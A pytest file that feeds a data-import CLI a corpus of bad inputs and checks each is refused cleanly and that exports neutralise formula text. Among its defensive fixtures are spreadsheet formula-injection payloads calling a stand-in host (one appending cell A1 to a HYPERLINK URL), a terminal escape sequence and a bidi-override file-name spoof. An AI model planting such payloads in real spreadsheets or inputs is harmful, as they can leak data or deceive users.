"""Issue 7, part 1: a corpus of bad inputs, each refused cleanly with the log left byte-identical.

Every case runs the real CLI (in-process, exceptions not caught, so a traceback fails the test)
against a copy of the template log (see conftest.py) and checks:

- a non-zero exit status (2: the input was refused);
- no traceback anywhere in the output;
- the expected message lines, each with its exact `FILE:ROW:COLUMN: ` prefix when the problem
  is in a file (`*` as the column when it is the whole row or file), `Error: ` otherwise;
- the log afterwards: the same database file bytes, the same `events` rows, the same schema and
  the same checkpoint.

Small files are checked in under corpus/; generated ones (XLSX made with openpyxl, binary junk,
a line over the CSV field limit, the 200 MB file) are made in tmp_path.

Formula payloads (see docs/reliability.md, "Spreadsheet formulas in text"): accepted as typed
and neutralised on the way out.  A payload in a column with its own check is refused by that
check (`=D2` is an unknown unit, `@SUM(1+1)` is not a number).  Free text (evidence, note, unit
names and ids of the unit file, --evidence/--note/--reason/--authority) is recorded as typed,
whatever its first character: the log keeps what the unit wrote, and every export neutralises
text that begins with = + - @ (tab, CR) with a leading apostrophe
(tests/export/test_export_annex.py imports a log full of such payloads through the importer and
checks every exported cell).  Free text is still refused when it holds control or invisible
characters or is too long.
`test_free_text_formula_payloads_are_recorded_as_typed_and_neutralised_on_export` shows it.
"""

from __future__ import annotations

import os
import random
import re
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest
from hostile_kit import snapshot

CORPUS = Path(__file__).parent / "corpus"
ROOT = Path(__file__).resolve().parents[2]
HEADER = ["year", "unit_id", "indicator", "value", "evidence", "note"]


@dataclass
class Case:
    id: str
    source: str | Callable[[Path], Path]  # a corpus file name, or a builder writing into tmp_path
    expect: list[tuple[str, str]]  # (exact line prefix, text the line contains); {f} = file
    command: tuple[str, ...] = ("import", "{f}")
    exact_count: bool = True  # the error lines are exactly these (plus the summary line)
    args: Callable[[dict], tuple] | None = None  # for commands without a file: seqs -> args
    notes: list[str] = field(default_factory=list)


# -- generated inputs ------------------------------------------------------------------------


def _xlsx(rows: list[list], *, tmp: Path, name: str, edit=None, sheets: int = 1) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    for row in rows:
        ws.append(row)
    if edit:
        edit(ws)
    for i in range(1, sheets):
        wb.create_sheet(f"Sheet{i + 1}").append(HEADER)
    path = tmp / name
    wb.save(path)
    return path


def xlsx_formula(tmp: Path) -> Path:
    return _xlsx([HEADER, [2020, "D2", "computers_total", 12, "CV 1", None],
                  [2020, "D2", "computers_broadband", "=D2-2", "CV 1", None]],
                 tmp=tmp, name="formula.xlsx")


def xlsx_merged(tmp: Path) -> Path:
    def merge(ws):
        ws.merge_cells("B2:B3")
    return _xlsx([HEADER, [2020, "D2", "computers_total", 12, "CV 1", None],
                  [2020, None, "computers_broadband", 10, "CV 1", None]],
                 tmp=tmp, name="merged.xlsx", edit=merge)


def xlsx_sheets(tmp: Path) -> Path:
    return _xlsx([HEADER, [2020, "D2", "computers_total", 12, "CV 1", None]],
                 tmp=tmp, name="sheets.xlsx", sheets=3)


def xlsx_error_value(tmp: Path) -> Path:
    def error(ws):
        ws["D2"].value = "#DIV/0!"
        ws["D2"].data_type = "e"
    return _xlsx([HEADER, [2020, "D2", "official_email_ratio", 0, "CV 1", None]],
                 tmp=tmp, name="error.xlsx", edit=error)


def xlsx_formula_text(tmp: Path) -> Path:
    """A text cell (not a formula) whose text is a formula payload: what a CSV-to-XLSX
    round trip or a cell formatted as Text produces."""
    def text(ws):
        ws["E2"].value = '=HYPERLINK("http://x.example","CV 1")'
        ws["E2"].data_type = "s"
    return _xlsx([HEADER, [2020, "D2", "computers_total", 12, "placeholder", None]],
                 tmp=tmp, name="formula-text.xlsx", edit=text)


def xlsx_date_value(tmp: Path) -> Path:
    """Excel turned the typed '1/5' into a date."""
    import datetime as dt
    return _xlsx([HEADER, [2020, "D2", "official_email_ratio", dt.datetime(2021, 1, 5), "CV 1", None]],
                 tmp=tmp, name="date.xlsx")


def xlsx_junk(tmp: Path) -> Path:
    path = tmp / "junk.xlsx"
    path.write_bytes(random.Random(7).randbytes(4096))
    return path


def binary_junk(tmp: Path) -> Path:
    path = tmp / "junk.csv"
    path.write_bytes(random.Random(11).randbytes(64 * 1024))
    return path


def line_over_field_limit(tmp: Path) -> Path:
    path = tmp / "huge-field.csv"
    path.write_text(",".join(HEADER) + "\n2020,D2,computers_total,12,CV 1,"
                    + "x" * 300_000 + "\n", encoding="utf-8")
    return path


def many_cells_in_a_row(tmp: Path) -> Path:
    path = tmp / "many-cells.csv"
    path.write_text(",".join(HEADER) + "\n2020,D2,computers_total,12,CV 1,," + "x," * 300_000
                    + "\n", encoding="utf-8")
    return path


def many_columns_in_the_header(tmp: Path) -> Path:
    path = tmp / "many-columns.csv"
    path.write_text(",".join(HEADER) + "".join(f",extra{i}" for i in range(50_000)) + "\n"
                    "2020,D2,computers_total,12,CV 1,\n", encoding="utf-8")
    return path


def bad_throughout(tmp: Path) -> Path:
    path = tmp / "bad-throughout.csv"
    path.write_text(",".join(HEADER) + "\n" + "2020,D9,computers_total,12,CV 1,\n" * 5000,
                    encoding="utf-8")
    return path


def wrong_extension(tmp: Path) -> Path:
    path = tmp / "submissions.ods"
    path.write_bytes((CORPUS / "unknown_unit.csv").read_bytes())
    return path


# -- the table -------------------------------------------------------------------------------

CASES = [
    # encodings and shape
    Case("not-utf8-cp1258", "not_utf8_cp1258.csv", [("{f}:3:*: ", "not UTF-8 (undecodable byte at offset")]),
    Case("utf16-with-bom", "utf16_bom.csv", [("{f}:1:*: ", "not UTF-8")]),
    Case("overlong-utf8-sequence", "overlong_utf8.csv", [("{f}:3:*: ", "not UTF-8")]),
    Case("binary-junk", binary_junk, [("{f}:", "not UTF-8")]),
    Case("missing-column", "missing_column.csv", [("{f}:1:value: ", "missing column 'value'")]),
    Case("extra-column", "extra_column.csv", [("{f}:1:comment: ", "unknown column 'comment'")]),
    Case("duplicated-column", "duplicated_column.csv", [("{f}:1:value: ", "appears twice")]),
    Case("unnamed-column", "unnamed_column.csv", [("{f}:1:column 3: ", "has no name")]),
    Case("empty-file", "empty.csv", [("{f}:1:*: ", "the file is empty")]),
    Case("only-blank-lines", "only_blank_lines.csv", [("{f}:1:*: ", "the file is empty")]),
    Case("semicolon-header", "semicolon_header.csv", [("{f}:1:*: ", "--delimiter ';'")]),
    Case("malformed-quote", "malformed_quote.csv", [("{f}:3:*: ", "malformed CSV")]),
    Case("nul-byte", "nul_byte.csv", [("{f}:3:evidence: ", "control character U+0000")]),
    Case("data-beyond-last-column", "data_beyond_header.csv", [("{f}:3:column 7: ", "beyond the last named column")]),
    Case("line-over-csv-field-limit", line_over_field_limit, [("{f}:2:*: ", "malformed CSV")]),
    Case("many-cells-beyond-the-header", many_cells_in_a_row,
         [("{f}:2:column 7: ", "a value beyond the last named column (and 299999 more after it)")]),
    Case("many-unknown-columns", many_columns_in_the_header,
         [("{f}:1:extra0: ", "unknown column 'extra0'"),
          ("{f}:1:*: ", "too many errors: stopped reading at row 1")], exact_count=False),
    Case("bad-throughout-error-cap", bad_throughout,
         [("{f}:2:unit_id: ", "unknown unit 'D9'"), ("{f}:1001:unit_id: ", "unknown unit 'D9'"),
          ("{f}:1002:*: ", "too many errors: stopped reading at row 1002")], exact_count=False),
    Case("unknown-file-type", wrong_extension, [("{f}:1:*: ", "unknown file type .ods")]),
    # units, years, indicators
    Case("unknown-unit", "unknown_unit.csv", [("{f}:3:unit_id: ", "unknown unit 'D9'")]),
    Case("unit-registered-later", "unit_not_yet_registered.csv", [("{f}:2:unit_id: ", "unit D3 did not exist in 2020")]),
    Case("unit-retired", "unit_retired.csv", [("{f}:2:unit_id: ", "unit D4 did not exist in 2020")]),
    Case("unknown-indicator", "unknown_indicator.csv", [("{f}:2:indicator: ", "'no_such_indicator' is not an indicator")]),
    Case("indicator-not-in-tier", "indicator_not_in_tier.csv", [("{f}:2:indicator: ", "for the commune tier")]),
    Case("year-without-edition", "year_not_adopted.csv", [("{f}:2:year: ", "no methodology adopted for 2019")]),
    Case("year-not-a-year", "year_not_a_year.csv", [("{f}:2:year: ", "'20x0' is not a year")]),
    # values
    Case("empty-value", "empty_value.csv", [("{f}:2:value: ", "empty")]),
    Case("non-numeric", "non_numeric.csv", [("{f}:2:value: ", "'mười hai'")]),
    Case("nan", "nan.csv", [("{f}:2:value: ", "'NaN' is not a finite number")]),
    Case("infinity", "infinity.csv", [("{f}:2:value: ", "'-Infinity' is not a finite number")]),
    Case("negative-count", "negative_count.csv", [("{f}:2:value: ", "a count must be a whole number ≥ 0, got -3")]),
    Case("ratio-above-one", "ratio_above_one.csv", [("{f}:2:value: ", "a ratio must be within 0..1, got 1.5")]),
    Case("percentage-above-100", "percentage_above_100.csv", [("{f}:2:value: ", "within 0..100, got 150")]),
    Case("above-declared-max", "above_declared_max.csv", [("{f}:2:value: ", "above leadership_score's maximum 10")]),
    Case("below-declared-min", "below_declared_min.csv", [("{f}:2:value: ", "below it_budget_spent's minimum 0")]),
    Case("count-with-fraction", "count_with_fraction.csv", [("{f}:2:value: ", "whole number ≥ 0, got 12.5")]),
    Case("yes-no-garbage", "yes_no_garbage.csv", [("{f}:2:value: ", "'maybe' is not yes/no")]),
    Case("unknown-category", "unknown_category.csv", [("{f}:2:value: ", "'gold' is not a category")]),
    Case("thousands-separator", "thousands_separator.csv", [("{f}:2:value: ", "if it separates thousands, write the digits together (1234)")]),
    Case("undeclared-decimal-comma", "decimal_comma_undeclared.csv", [("{f}:2:value: ", "--decimal-comma")]),
    # rows against rows and against the log
    Case("duplicate-rows", "duplicate_rows.csv", [("{f}:3:indicator: ", "repeats row 2")]),
    Case("conflicting-rows", "conflicting_rows.csv", [("{f}:3:indicator: ", "contradicts row 2")]),
    Case("conflicts-with-log", "conflicts_with_log.csv", [("{f}:2:value: ", "ictindex correct")]),
    # text hygiene
    Case("formula-in-unit-id", "formula_in_unit_id.csv", [("{f}:2:unit_id: ", "unknown unit '=D2'")]),
    Case("formula-in-value", "formula_in_value.csv", [("{f}:2:value: ", "'@SUM(1+1)' is not a number")]),
    Case("control-character", "control_character.csv", [("{f}:2:note: ", "U+0007")]),
    Case("terminal-escape-sequence", "escape_sequence.csv", [("{f}:2:evidence: ", "U+001B")]),
    Case("line-break-in-field", "line_break_in_field.csv", [("{f}:2:evidence: ", "U+000A")]),
    Case("bidi-override", "bidi_override.csv", [("{f}:2:evidence: ", "U+202E")]),
    Case("zero-width-space-in-unit-id", "zero_width_in_unit_id.csv", [("{f}:2:unit_id: ", "U+200B")]),
    Case("very-long-field", "very_long_field.csv", [("{f}:2:evidence: ", "more than the 2000 allowed")]),
    # XLSX
    Case("xlsx-formula", xlsx_formula, [("{f}:3:value: ", "cell holds the formula =D2-2")]),
    Case("xlsx-merged-cells", xlsx_merged, [("{f}:2:unit_id: ", "merged cells B2:B3")]),
    Case("xlsx-several-sheets", xlsx_sheets, [("{f}:1:*: ", "the workbook has 3 sheets")]),
    Case("xlsx-error-value", xlsx_error_value, [("{f}:2:value: ", "error value #DIV/0!")]),
    Case("xlsx-date-for-a-ratio", xlsx_date_value, [("{f}:2:value: ", "'2021-01-05' is not a number")]),
    Case("xlsx-not-a-workbook", xlsx_junk, [("{f}:1:*: ", "not a readable XLSX workbook")]),
    Case("sheet-option-on-csv", "unknown_unit.csv", [("{f}:1:*: ", "--sheet applies to XLSX")],
         command=("import", "{f}", "--sheet", "Sheet1")),
    # unit files
    Case("units-unknown-tier", "units_unknown_tier.csv", [("{f}:2:tier: ", "unknown tier 'county'")],
         command=("units", "import", "{f}")),
    Case("units-unknown-parent", "units_unknown_parent.csv", [("{f}:2:parent_id: ", "unknown parent unit D99")],
         command=("units", "import", "{f}")),
    Case("units-clash-with-log", "units_clash_with_log.csv", [("{f}:2:unit_id: ", "already registered with other facts")],
         command=("units", "import", "{f}")),
    # corrections, retractions and single submissions (no file: `Error: ` and the seq)
    Case("correct-missing-event", "", [("Error: ", "no event with seq 99999")],
         args=lambda s: ("correct", 99999, "0.7", "--reason", "x")),
    Case("correct-unknown-event-id", "", [("Error: ", "no event with event_id 0123abc")],
         args=lambda s: ("correct", "0123abc", "0.7", "--reason", "x")),
    Case("correct-retracted-submission", "", [("Error: ", "is retracted: it can no longer be corrected")],
         args=lambda s: ("correct", s["R"], "0.7", "--reason", "x")),
    Case("correct-a-correction", "", [("Error: ", "is an indicator corrected event, not a submission")],
         args=lambda s: ("correct", s["K"], "7", "--reason", "x")),
    Case("correct-a-unit-registration", "", [("Error: ", "event #1 is a unit registered event, not a submission")],
         args=lambda s: ("correct", 1, "7", "--reason", "x")),
    Case("correct-a-retraction", "", [("Error: ", "not a submission")],
         args=lambda s: ("correct", s["X"], "7", "--reason", "x")),
    Case("correct-without-reason", "", [("Error: ", "needs a reason")],
         args=lambda s: ("correct", s["S"], "90", "--reason", "   ")),
    Case("correct-out-of-range", "", [("Error: ", "within 0..100, got 190")],
         args=lambda s: ("correct", s["S"], "190", "--reason", "x")),
    Case("correct-to-the-same-value", "", [("Error: ", "a correction must change it")],
         args=lambda s: ("correct", s["S"], "95", "--reason", "x")),
    Case("retract-twice", "", [("Error: ", "already retracted")],
         args=lambda s: ("retract", s["R"], "--reason", "again")),
    Case("submit-escape-sequence-in-note", "", [("Error: ", "--note: control character U+001B")],
         args=lambda s: ("submit", "--year", 2020, "D2", "computers_total", "5", "--note", "\x1b[31mred")),
    Case("correct-bidi-override-in-reason", "", [("Error: ", "--reason: invisible formatting character U+202E")],
         args=lambda s: ("correct", s["S"], "90", "--reason", "recount \u202egnp.exe")),
]


# Corpus files that are accepted on purpose (the formula decision), used by
# test_free_text_formula_payloads_are_recorded_as_typed_and_neutralised_on_export.
ACCEPTED = {"formula_in_evidence.csv", "formula_at_sign_in_note.csv", "units_formula_in_name.csv"}


def _materialise(case: Case, tmp: Path) -> Path | None:
    if case.args is not None:
        return None
    if callable(case.source):
        return case.source(tmp)
    return CORPUS / case.source


def test_the_corpus_has_at_least_30_kinds_and_every_file_is_used():
    assert len({c.id for c in CASES}) == len(CASES) >= 30
    used = {c.source for c in CASES if isinstance(c.source, str)} | ACCEPTED
    assert used - {""} == {p.name for p in CORPUS.iterdir()}


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_a_bad_input_is_refused_cleanly_and_the_log_is_untouched(case, hostile_log, run, tmp_path):
    db, seqs = hostile_log
    path = _materialise(case, tmp_path)
    before = snapshot(db)
    if case.args is not None:
        args = case.args(seqs)
    else:
        args = [str(path) if a == "{f}" else a for a in case.command]
    result = run(db, *args)
    assert result.exit_code != 0, result.output
    assert "Traceback" not in result.output and "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    for prefix, text in case.expect:
        prefix = prefix.replace("{f}", str(path))
        assert any(line.startswith(prefix) and text in line for line in lines), (
            f"no line starting {prefix!r} containing {text!r} in:\n{result.stderr}")
    if case.args is None and case.exact_count:
        errors = [line for line in lines if not line.endswith("nothing was recorded.")]
        assert len(errors) == len(case.expect), result.stderr
    if case.id.endswith("error-cap") or case.id == "many-unknown-columns":
        assert len(lines) == 1000 + 2  # the errors, the "too many" line, the summary
    assert snapshot(db) == before


def test_free_text_formula_payloads_are_recorded_as_typed_and_neutralised_on_export(
        hostile_log, run, tmp_path):
    """The accepted half of the formula decision: evidence, notes and unit names are kept as
    typed, and neutralised with a leading apostrophe wherever the log is exported to a
    spreadsheet (tests/export/test_export_annex.py checks every exported cell)."""
    import json

    db, _ = hostile_log
    units = run(db, "units", "import", CORPUS / "units_formula_in_name.csv")
    assert units.exit_code == 0, units.output
    f = tmp_path / "plus-minus.csv"
    f.write_text(",".join(HEADER) + "\n"
                 "2020,D1,computers_total,12,+84 254 385 2000,-\n"
                 "2020,D1,computers_broadband,10,CV 1,-5% so với 2019\n", encoding="utf-8")
    result = run(db, "import", f)
    assert result.exit_code == 0, result.output
    log = json.loads(run(db, "log", "--unit", "D1", "--format", "json").stdout)
    notes = {e["payload"]["indicator"]: (e["payload"].get("evidence"), e["payload"].get("note"))
             for e in log if e["payload"]["type"] == "indicator_submitted"}
    assert notes["computers_total"] == ("+84 254 385 2000", "-")
    assert notes["computers_broadband"] == ("CV 1", "-5% so với 2019")
    from ictindex.export import neutralise

    assert neutralise("+84 254 385 2000") == "'+84 254 385 2000"
    assert neutralise("-") == "'-"
    assert neutralise('=IMPORTXML("http://x.example","//a")').startswith("'=")
    for name in ("formula_in_evidence.csv", "formula_at_sign_in_note.csv"):
        result = run(db, "import", CORPUS / name)
        assert result.exit_code == 0, result.output
    xlsx = xlsx_formula_text(tmp_path)
    assert run(db, "import", xlsx).exit_code == 0
    texts = {e["payload"].get("evidence") for e in json.loads(
        run(db, "log", "--unit", "D2", "--format", "json").stdout)}
    assert {'=HYPERLINK("http://x.example/?"&A1,"Biên bản")',
            '=HYPERLINK("http://x.example","CV 1")'} <= texts
    assert all(neutralise(t).startswith("'") for t in texts if t and t[0] in "=@")


# -- the 200 MB file ---------------------------------------------------------------------------

_PEAK_RSS = """
import resource, sys
from ictindex.cli import main
try:
    main()
finally:
    print(f"PEAK_RSS_KIB={resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}", file=sys.stderr)
"""


def _import_in_subprocess(db: Path, path: Path) -> tuple[subprocess.CompletedProcess, int]:
    env = dict(os.environ, ICTINDEX_ACTOR="tester")
    proc = subprocess.run([sys.executable, "-c", _PEAK_RSS, "--db", str(db), "import", str(path)],
                          capture_output=True, text=True, env=env, cwd=ROOT)
    match = re.search(r"PEAK_RSS_KIB=(\d+)", proc.stderr)
    assert match, proc.stderr[-2000:]
    return proc, int(match.group(1)) * 1024


def _write_big(path: Path, size: int, body: Callable[[int], str], tail: str) -> int:
    """A header, `body(i)` lines until `size` bytes, then `tail`; returns the tail's row."""
    row = 1
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(",".join(HEADER) + "\n")
        written = 0
        block = []
        while written < size:
            line = body(row)
            block.append(line)
            written += len(line.encode())
            row += 1
            if len(block) == 1000:
                f.write("".join(block))
                block = []
        f.write("".join(block))
        f.write(tail)
    return row + 1


@pytest.mark.slow
@pytest.mark.parametrize("shape", ["padded-rows", "one-line"])
def test_a_200_mb_file_is_streamed_in_bounded_memory(shape, hostile_log, tmp_path):
    """200 MB read through the real CLI in a subprocess: refused with the right row, the log
    untouched, and the peak RSS above a small baseline import a small fraction of the file.

    padded-rows: a sheet exported with formatting down to the last row (blank rows padded with
    spaces, as spreadsheets do), one valid row at the top and a NaN in the very last row, so the
    whole file must be read.  one-line: 200 MB without a line break (a broken export), which a
    line-by-line reader would hold in memory whole.
    """
    db, _ = hostile_log
    size = 200 * 1024 * 1024
    small = tmp_path / "small.csv"
    small.write_bytes((CORPUS / "nan.csv").read_bytes())
    big = tmp_path / f"{shape}.csv"
    if shape == "padded-rows":
        pad = " " * 1000 + ",,,,,\n"
        first = "2020,D2,computers_total,12,CV 1,\n"
        last_row = _write_big(big, size, lambda i: first if i == 1 else pad,
                              "2020,D2,computers_broadband,NaN,CV 1,\n")
        expected = f"{big}:{last_row}:value: 'NaN' is not a finite number"
    else:
        with open(big, "w", encoding="utf-8") as f:
            f.write(",".join(HEADER) + "\n2020,D2,computers_total,12,")
            chunk = "a" * (1 << 20)
            for _ in range(size >> 20):
                f.write(chunk)
        expected = f"{big}:2:"
    assert big.stat().st_size >= size
    before = snapshot(db)

    baseline_proc, baseline = _import_in_subprocess(db, small)
    assert baseline_proc.returncode == 2 and "Traceback" not in baseline_proc.stderr
    proc, peak = _import_in_subprocess(db, big)
    assert proc.returncode == 2, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr
    assert any(line.startswith(expected) for line in proc.stderr.splitlines()), proc.stderr[-2000:]
    assert snapshot(db) == before
    print(f"\n{shape}: peak RSS {peak >> 20} MiB, baseline {baseline >> 20} MiB")
    # The reading costs at most 5% of the file above a tiny import's own footprint.
    assert peak - baseline < size // 20, (peak, baseline)
